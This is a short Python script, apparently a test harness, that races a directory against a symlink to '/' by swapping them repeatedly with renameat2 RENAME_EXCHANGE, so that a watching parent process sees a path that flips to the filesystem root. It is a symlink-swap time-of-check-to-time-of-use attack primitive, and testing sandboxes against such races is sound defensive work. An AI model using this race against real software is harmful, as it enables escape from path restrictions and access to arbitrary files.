import sys

sys.path.insert(0, "/inputs")
from trying import targets
# A folder that is a link to everywhere at every other moment, while the parent looks.
import ctypes
import os
import time

EXCHANGE = 2
os.mkdir("one")
open("one/inside", "w").close()
os.symlink("/", "other")
libc = ctypes.CDLL(None)
end = time.monotonic() + 1.5
while time.monotonic() < end:
    libc.renameat2(-100, b"one", -100, b"other", EXCHANGE)
